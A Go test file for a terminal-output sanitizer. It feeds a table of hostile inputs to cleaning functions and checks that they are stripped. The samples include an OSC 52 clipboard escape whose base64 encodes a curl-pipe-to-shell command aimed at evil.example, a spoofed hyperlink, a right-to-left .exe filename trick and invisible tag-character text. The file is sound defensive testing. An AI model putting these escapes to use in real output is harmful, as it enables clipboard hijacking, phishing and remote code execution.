package sanitize

import (
	"strings"
	"testing"
)

// hcase is one input of a row of docs/security.md §8.1 with its expected
// Line and Block output.
type hcase struct {
	in, line, block string
}

// same is a case whose expected output is the same in both contexts.
func same(in, out string) hcase { return hcase{in, out, out} }

// hrow is one row of the §8.1 table. flags are the removal flags that both
// LineFlags and BlockFlags must report for every case of the row (Truncated
// depends on the context's cap and is tested separately).
type hrow struct {
	id    string
	cases []hcase
	flags Flags
}

// hostileRows is the §8.1 table for Layer A. H24–H26b (A10, width
// normalisation) are tested in package views; here those rows check that
// Layer A hands emoji and complex scripts on intact.
func hostileRows() []hrow {
	const osc52 = "Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK"
	tags := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			b.WriteRune(0xe0000 + r)
		}
		return b.String()
	}
	zalgo := "Z" + strings.Repeat("\u0301", 1000)
	return []hrow{
		{"H01", []hcase{{"hi \x1b]52;c;" + osc52 + "\x07 there", "hi there", "hi  there"}}, Flags{ControlsRemoved: true}},
		{"H02", []hcase{same("\x1b]52;c;U0VOVElORUwtT1NDNTI=\x1b\\ok", "ok")}, Flags{ControlsRemoved: true}},
		{"H03", []hcase{same("\x1b]52;c;?\x07q", "q")}, Flags{ControlsRemoved: true}},
		{"H04", []hcase{same("\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07", "https://bank.example")}, Flags{ControlsRemoved: true}},
		{"H05", []hcase{same("\x1b]0;SENTINEL-TITLE\x07t", "t"), same("\x1b]2;x\x1b\\t", "t")}, Flags{ControlsRemoved: true}},
		{"H06", []hcase{same("\x1b[21t \x1b[20t \x1b[6n \x1b[c \x1b[>c \x1b[?u", "")}, Flags{ControlsRemoved: true}},
		{"H07", []hcase{
			same("\x1bP$qm\x1b\\a", "a"),
			same("\x1bP+q544e\x1b\\a", "a"),
			same("\x1bPtmux;\x1b\x1b]52;c;U0VOVElORUwtT1NDNTI=\x07\x1b\\a", "a"),
		}, Flags{ControlsRemoved: true}},
		{"H08", []hcase{
			same("\x1b_Gf=100,a=T,t=f;L2V0Yy9wYXNzd2Q=\x1b\\a", "a"),
			same("\x1b^pm\x1b\\a", "a"),
			same("\x1bXsos\x1b\\a", "a"),
			same("\x1bPq#0!2147483647@\x1b\\a", "a"),
		}, Flags{ControlsRemoved: true}},
		{"H09", []hcase{
			same("line\x1b[2J\x1b[Hover", "lineover"),
			same("\x1b[10A", ""),
			same("\x1b7x\x1b8", "x"),
			same("\x1b[?1049h", ""),
			same("\x1b[8mhidden\x1b[0m", "hidden"),
		}, Flags{ControlsRemoved: true}},
		{"H10", []hcase{same("x\x1bcy", "xy"), same("\x1b(0qqq\x1b(B", "qqq"), same("\x0eabc\x0f", "abc")}, Flags{ControlsRemoved: true}},
		{"H11", []hcase{{"alice: hello\rbob:  ", "alice: hello bob:", "alice: hello\nbob:"}}, Flags{ControlsRemoved: true}},
		{"H12", []hcase{
			same("abc\b\b\bXYZ", "abcXYZ"),
			same("a\x00b", "ab"),
			same("a\x7fb", "ab"),
			same(strings.Repeat("\x07", 1000)+"x", "x"),
			same("a\x0bb\x0cc", "abc"),
		}, Flags{ControlsRemoved: true}},
		{"H13", []hcase{same("a\x9b2Jb", "ab"), same("\x9d0;SENTINEL\x9cz", "z"), same("a\x90qq\x9cb", "ab")}, Flags{ControlsRemoved: true}},
		{"H14", []hcase{same("a\u009b2Jb", "a2Jb"), same("\u009d0;SENTINEL\u009cz", "0;SENTINELz")}, Flags{ControlsRemoved: true}},
		{"H14/NEL", []hcase{{"a\u0085b", "a b", "a\nb"}}, Flags{}},
		{"H15", []hcase{
			same("before\x1b]0;SENTINEL never terminated", "before"),
			same("x\x1b", "x"),
			same("x\x1b[", "x"),
			same("x\x1bPnever", "x"),
		}, Flags{ControlsRemoved: true}},
		{"H16", []hcase{
			same("a\xff\xfeb", "ab"),
			same("\xc0\xaf", ""),
			same("a\xed\xa0\x80b", "a\ufffdb"),
			same("a\xe2\x82", "a\ufffd"),
			same("a\x85b", "a\ufffdb"),
		}, Flags{}},
		{"H17", []hcase{
			same("invoice\u202egpj.exe", "invoicegpj.exe"),
			same("alice\u2066\u2067bob\u2069", "alicebob"),
			same("\u200f\u200ex", "x"),
			same("a\u061cb", "ab"),
		}, Flags{HiddenTextRemoved: true}},
		{"H18", []hcase{
			same("pay\u200bpal", "paypal"),
			same("ad\u00admin", "admin"),
			same("\ufeffBOM", "BOM"),
			same("a\u2060b", "ab"),
			same("\u3164", ""),
			same("\uffa0", ""),
			same("\u115f\u1160", ""),
		}, Flags{HiddenTextRemoved: true}},
		{"H18/braille", []hcase{same("\u2800", "\u2800")}, Flags{}},
		{"H19", []hcase{same("hello"+tags("IGNORE"), "hello")}, Flags{HiddenTextRemoved: true}},
		{"H20", []hcase{same("🏴"+tags("gbsct")+"\U000E007F", "🏴"+tags("gbsct")+"\U000E007F")}, Flags{}},
		{"H21", []hcase{same("🏴"+tags("ignore a")+"\U000E007F", "🏴")}, Flags{HiddenTextRemoved: true}},
		{"H22", []hcase{same(zalgo, zalgo[:1+8*len("\u0301")])}, Flags{}},
		{"H23", []hcase{same("e"+strings.Repeat("\u0301", 50000), "e"+strings.Repeat("\u0301", 8))}, Flags{}},
		{"H24", []hcase{same("👨\u200d👩\u200d👧\u200d👦", "👨\u200d👩\u200d👧\u200d👦")}, Flags{}},
		{"H25", []hcase{same("☺\ufe0f", "☺\ufe0f"), same("👍🏽", "👍🏽"), same("1\ufe0f\u20e3", "1\ufe0f\u20e3")}, Flags{}},
		{"H26b", []hcase{same("क्षत्रिय", "क्षत्रिय"), same("กำลัง", "กำลัง"), same("\u1100\u1161\u11a8", "\u1100\u1161\u11a8")}, Flags{}},
		{"H27", []hcase{{"a\tb", "a b", "a   b"}}, Flags{}},
		{"H28", []hcase{{"x\u2028y", "x y", "x\ny"}}, Flags{}},
		{"H29", []hcase{{"bob\n2026-01-01 INFO operator=admin login ok", "bob 2026-01-01 INFO operator=admin login ok", "bob\n2026-01-01 INFO operator=admin login ok"}}, Flags{}},
		{"H31", []hcase{same("\ue000verified", "\ue000verified")}, Flags{}},
		{"H32", []hcase{same("hello world", "hello world")}, Flags{}},
	}
}

// TestHostileInputs runs every row of §8.1 in both contexts, checks the
// reported flags, idempotence and the A14 guarantees.
func TestHostileInputs(t *testing.T) {
	for _, row := range hostileRows() {
		t.Run(row.id, func(t *testing.T) {
			for _, tc := range row.cases {
				line, lf := LineFlags(tc.in)
				block, bf := BlockFlags(tc.in)
				lf.Truncated, bf.Truncated = false, false
				if line != tc.line {
					t.Errorf("Line(%q) = %q, want %q", tc.in, line, tc.line)
				}
				if block != tc.block {
					t.Errorf("Block(%q) = %q, want %q", tc.in, block, tc.block)
				}
				if lf != row.flags && tc.in != tc.line {
					t.Errorf("LineFlags(%q) flags = %+v, want %+v", tc.in, lf, row.flags)
				}
				if bf != row.flags && tc.in != tc.block {
					t.Errorf("BlockFlags(%q) flags = %+v, want %+v", tc.in, bf, row.flags)
				}
				if (tc.in == tc.line && lf != Flags{}) || (tc.in == tc.block && bf != Flags{}) {
					t.Errorf("unchanged input %q reported flags %+v / %+v", tc.in, lf, bf)
				}
				for _, cl := range cleaners {
					out := cl.fn(tc.in)
					if why := violation(tc.in, out, cl.mode); why != "" {
						t.Errorf("%s(%q) = %q: %s", cl.name, tc.in, out, why)
					}
					if again := cl.fn(out); again != out {
						t.Errorf("%s not idempotent on %q: %q then %q", cl.name, tc.in, out, again)
					}
				}
			}
		})
	}
}

// TestHostileIdentityRows covers the rows that name identity fields: H18
// (blank-looking names) and H31 (private-use badge).
func TestHostileIdentityRows(t *testing.T) {
	cases := []struct{ in, want string }{
		{"\u2800", BlankName},
		{"\u3164", BlankName},
		{"\u115f\u1160", BlankName},
		{" \u2800 \u2800 ", BlankName},
		{"\ue000verified", "\ufffdverified"},
		{"\U000F0000verified", "\ufffdverified"},
		{"pay\u200bpal", "paypal"},
	}
	for _, tc := range cases {
		if got := Identity(tc.in); got != tc.want {
			t.Errorf("Identity(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestH30LargeBody cuts a 5 MB, 10 000-line body with a 2 000-character word
// to the Block cap, reports it, and stays fast.
func TestH30LargeBody(t *testing.T) {
	var b strings.Builder
	b.WriteString(strings.Repeat("w", 2000) + "\n")
	for i := 0; b.Len() < 5<<20; i++ {
		if i < 10000 {
			b.WriteString("line of a long post with some words\n")
		} else {
			b.WriteString("padding padding padding padding padding\t")
		}
	}
	in := b.String()
	out, f := BlockFlags(in)
	if !f.Truncated {
		t.Error("Truncated not reported for a 5 MB body")
	}
	if len(out) > BlockCap || !strings.HasPrefix(out, strings.Repeat("w", 2000)+"\n") {
		t.Errorf("cut body: len %d, want <= %d and the long word kept", len(out), BlockCap)
	}
	if d := fastest(3, func() { BlockFlags(in) }); d > 20*timeScale {
		t.Errorf("Block on 5 MB took %v, want < %v", d, 20*timeScale)
	}
	if again := Block(out); again != out {
		t.Error("Block not idempotent on the cut body")
	}
}

// TestH23Speed: 50 000 combining marks on one base are cut quickly.
func TestH23Speed(t *testing.T) {
	in := "e" + strings.Repeat("\u0301", 50000)
	if d := fastest(3, func() { Block(in) }); d > 5*timeScale {
		t.Errorf("Block on 50 000 marks took %v, want < %v", d, 5*timeScale)
	}
}

// TestH32NoAllocations: clean ASCII comes back as is without allocating, and
// so does clean non-ASCII text or a clean prefix (trailing spaces cut).
func TestH32NoAllocations(t *testing.T) {
	cases := []struct {
		name string
		fn   func(string) string
		in   string
	}{
		{"Line", Line, "hello world"},
		{"Block", Block, "hello world"},
		{"Identity", Identity, "hello world"},
		{"Block", Block, "a post\nwith two lines\n\nand a gap\n"},
		{"Line", Line, "trailing spaces   "},
		{"Block", Block, "Grüße, 世界 👨\u200d👩\u200d👧"},
		{"Identity", Identity, "René 🤖"},
	}
	for _, tc := range cases {
		if n := testing.AllocsPerRun(100, func() { tc.fn(tc.in) }); n != 0 {
			t.Errorf("%s(%q): %v allocations, want 0", tc.name, tc.in, n)
		}
	}
	if out := Line("hello world"); out != "hello world" {
		t.Errorf("Line(hello world) = %q", out)
	}
}
